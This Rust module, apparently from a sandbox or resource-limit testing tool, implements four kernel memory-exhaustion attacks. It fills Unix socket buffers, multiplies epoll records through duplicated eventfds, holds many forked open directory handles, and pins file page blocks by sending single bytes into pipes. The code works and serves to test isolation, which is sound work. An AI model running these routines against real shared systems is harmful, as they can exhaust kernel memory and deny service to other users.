//! Attacks on memory of the kernel that counts for no process.

use std::fs::File;
use std::io::{self, ErrorKind, Read, Write};
use std::mem::MaybeUninit;
use std::os::fd::OwnedFd;
use std::os::unix::net::UnixStream;
use std::time::Duration;

use rustix::event::epoll;
use rustix::event::{EventfdFlags, eventfd};
use rustix::fs::{Mode, OFlags, RawDir, open};
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};

use super::outcome::AttackOutcome;
use super::processes::LIFETIME;
use super::raw_syscall::fork;
use super::target::AttackTarget;

/// Pairs of sockets, which can hold more than three times as much as the attacking process may use.
const PAIRS: usize = 500;

/// Files, numbers under which each is watched, and epoll instances that do so: a million records together.
const WATCHED_FILES: usize = 400;

const NUMBERS: usize = 400;

const INSTANCES: usize = 6;

/// A folder with many files, each process that has it open, and how often it has.
const LARGE_FOLDER: &str = "/usr/bin";

const READERS: usize = 6;

const OPEN_FOLDERS: usize = 1000;

/// The largest block of pages of a file, in bytes.
const BLOCK: u64 = 2 << 20;

/// The blocks of which one pipe takes a byte.
const BLOCKS_OF_PIPE: u64 = 16;

/// How long the memory is held, so that a check can see it.
const HOLD: Duration = Duration::from_secs(2);

/// Fills both directions of many connected sockets.
pub(super) fn fill_sockets(_: &AttackTarget) -> AttackOutcome {
    raise_limit();
    let mut held = Vec::with_capacity(PAIRS);
    let filled = (0..PAIRS).try_fold(0, |bytes, _| {
        let (one, other) = UnixStream::pair()?;
        let filled = fill(&one)? + fill(&other)?;
        held.push((one, other));
        Ok(bytes + filled)
    });
    std::thread::sleep(HOLD);
    AttackOutcome::from_result(filled, |bytes| format!("{} MiB were held in sockets", bytes >> 20))
}

/// Writes to a socket until it accepts no more; returns the number of bytes.
fn fill(mut socket: &UnixStream) -> io::Result<usize> {
    socket.set_nonblocking(true)?;
    let (piece, mut bytes) = (vec![1_u8; 64 << 10], 0);
    loop {
        match socket.write(&piece) {
            Ok(written) => bytes += written,
            Err(error) if error.kind() == ErrorKind::WouldBlock => return Ok(bytes),
            Err(error) => return Err(error),
        }
    }
}

/// Watches each of some files under many numbers. Records last as long as the file is open under any number.
pub(super) fn watch_descriptors(_: &AttackTarget) -> AttackOutcome {
    raise_limit();
    AttackOutcome::from_result(watch(), |records| format!("epoll holds {records} records"))
}

fn watch() -> io::Result<usize> {
    let event = || eventfd(0, EventfdFlags::CLOEXEC);
    let files = (0..WATCHED_FILES).map(|_| event()).collect::<Result<Vec<_>, _>>()?;
    let mut numbers = (0..NUMBERS).map(|_| event()).collect::<Result<Vec<_>, _>>()?;
    let instance = |_| epoll::create(epoll::CreateFlags::CLOEXEC);
    let instances = (0..INSTANCES).map(instance).collect::<Result<Vec<_>, _>>()?;
    for number in &mut numbers {
        for file in &files {
            rustix::io::dup2(file, number)?;
            for instance in &instances {
                let (data, events) = (epoll::EventData::new_u64(0), epoll::EventFlags::IN);
                epoll::add(instance, &*number, data, events)?;
            }
        }
    }
    std::thread::sleep(HOLD);
    drop(files);
    Ok(WATCHED_FILES * NUMBERS * INSTANCES)
}

/// Reads the first names of a folder that is opened again and again: for each time the kernel keeps those that follow.
pub(super) fn open_folders(_: &AttackTarget) -> AttackOutcome {
    raise_limit();
    let opened = hold_folders();
    std::thread::sleep(HOLD);
    AttackOutcome::from_result(opened, |folders| format!("{folders} folders are open"))
}

fn hold_folders() -> io::Result<usize> {
    let (mut reader, writer) = io::pipe()?;
    for _ in 0..READERS {
        let mut writer = &writer;
        let hold = || {
            let folders: Vec<_> = (0..OPEN_FOLDERS).map_while(|_| begun_folder().ok()).collect();
            let _best_effort = writer.write_all(&[u8::from(folders.len() > OPEN_FOLDERS / 2)]);
            std::thread::sleep(LIFETIME);
        };
        #[expect(unsafe_code, reason = "a process is copied")]
        // SAFETY: the process of an attack has one thread.
        let _copy = unsafe { fork(hold) }?;
    }
    drop(writer);
    let mut held = [0; READERS];
    reader.read_exact(&mut held)?;
    if held == [1; READERS] {
        Ok(READERS * OPEN_FOLDERS)
    } else {
        Err(ErrorKind::QuotaExceeded.into())
    }
}

/// A folder of which the first names were read.
fn begun_folder() -> io::Result<OwnedFd> {
    let flags = OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC;
    let folder = open(LARGE_FOLDER, flags, Mode::empty())?;
    RawDir::new(&folder, &mut [MaybeUninit::uninit(); 300]).next().transpose()?;
    Ok(folder)
}

/// Has pipes take one byte of every few pages of a file: each holds the whole block of pages around its byte, even when the file
/// is gone. The file is this program.
pub(super) fn hold_pages(_: &AttackTarget) -> AttackOutcome {
    raise_limit();
    let Some(file) = std::env::args_os().next().and_then(|program| File::open(program).ok()) else {
        return AttackOutcome::Unknown("it cannot read its program".to_owned());
    };
    AttackOutcome::from_result(hold(&file), |blocks| {
        format!("pipes hold {} MiB of a file", blocks * (BLOCK >> 20))
    })
}

fn hold(file: &File) -> io::Result<u64> {
    let blocks = file.metadata()?.len() / BLOCK;
    let mut pipes = Vec::new();
    for block in 0..blocks {
        if block % BLOCKS_OF_PIPE == 0 {
            pipes.push(io::pipe()?);
        }
        let Some((_, writer)) = pipes.last() else { break };
        rustix::fs::sendfile(writer, file, Some(&mut (block * BLOCK)), 1)?;
    }
    std::thread::sleep(HOLD);
    Ok(blocks)
}

/// As many descriptors as this process may have. If that is refused, the lower limit stays.
fn raise_limit() {
    let limit = getrlimit(Resource::Nofile);
    let _raised = setrlimit(Resource::Nofile, Rlimit { current: limit.maximum, ..limit });
}
